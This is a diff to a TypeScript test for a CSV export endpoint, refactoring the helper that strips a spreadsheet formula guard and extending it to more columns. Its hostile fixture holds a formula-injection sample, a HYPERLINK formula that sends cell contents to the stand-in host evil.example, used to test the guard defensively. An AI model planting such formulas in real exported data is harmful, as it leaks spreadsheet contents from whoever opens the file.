@@ -5,9 +5,11 @@ import { CSV_COLUMNS } from '../../server/export/format.ts';
 import type { SearchResult as ApiResult } from '../../server/loaders/search.ts';
 import { buildTestApp } from '../helpers/app.ts';
 import { addNota } from '../helpers/records.ts';
+import { spreadsheetRisk } from '../../server/export/spreadsheet-guard.ts';
 
 /** Strips the formula guard, to compare exported cells with the stored text. */
-const unguard = (s: string) => (/^'[=+\-@\t\r\n]/.test(s) ? s.slice(1) : s);
+/** A cell as it was before the spreadsheet guard (server/export/spreadsheet-guard.ts) prefixed it. */
+const unguard = (s: string) => (s.startsWith("'") && spreadsheetRisk(s.slice(1)) ? s.slice(1) : s);
 
 const HOSTILE = [
   { vid: 'X-1', question: '=HYPERLINK("http://evil.example/?"&A1;"klik")', answer: '+31 6 12345678 bellen' },
@@ -67,9 +69,9 @@ describe('GET /export.csv', () => {
       const r = expected[i]!;
       expect(unguard(row.Vraag!)).toBe(r.question);
       expect(unguard(row.Antwoord!)).toBe(r.answer);
-      expect(row.Document).toBe(r.document);
-      expect(row.Paragraaf).toBe(r.paragraph);
-      expect(row.Pagina).toBe(r.pageEnd > r.pageStart ? `${r.pageStart}-${r.pageEnd}` : String(r.pageStart));
+      expect(unguard(row.Document!)).toBe(r.document);
+      expect(unguard(row.Paragraaf!)).toBe(r.paragraph);
+      expect(unguard(row.Pagina!)).toBe(r.pageEnd > r.pageStart ? `${r.pageStart}-${r.pageEnd}` : String(r.pageStart));
       expect(row.Link).toBe(`http://localhost:80${r.url}`);
     });
   });
